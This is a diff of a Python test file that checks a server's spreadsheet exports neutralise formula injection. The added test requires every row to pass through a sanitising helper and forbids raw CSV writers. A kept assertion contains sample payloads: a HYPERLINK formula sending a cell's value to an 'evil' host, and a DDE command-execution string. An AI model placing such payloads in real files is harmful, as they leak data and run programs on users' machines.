@@ -116,3 +116,20 @@ def test_libreoffice_shows_the_text_as_typed_and_evaluates_nothing(tmp_path: Pat
     csv_text = (tmp_path / "book.csv").read_text(encoding="utf-8").strip()
     assert csv_text == "=1+1,\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"点我\"\")\"," \
                        "=cmd|' /C calc'!A0"
+
+
+def test_every_sheet_the_server_writes_appends_its_rows_through_the_cell_helper() -> None:
+    """A new export cannot forget the rule: workbooks are built in two modules, every row
+    they append goes through ``row``, and nothing writes CSV (which would need its own
+    neutralising of formula starts)."""
+    root = Path(__file__).parent.parent / "sync"
+    sources = {p.relative_to(root).as_posix(): p.read_text(encoding="utf-8")
+               for p in root.rglob("*.py")}
+    assert sorted(name for name, text in sources.items() if "Workbook(" in text) == [
+        "console/excel.py", "evaluation/excel.py"]
+    for name in ("console/excel.py", "evaluation/excel.py"):
+        appends = re.findall(r"\.append\((.{0,4})", sources[name])
+        assert appends and set(appends) == {"row("}, name
+        assert not re.search(r"\.cell\([^)]*value=", sources[name]), name
+    assert not [name for name, text in sources.items()
+                if re.search(r"csv\.(?:writer|DictWriter)", text)]
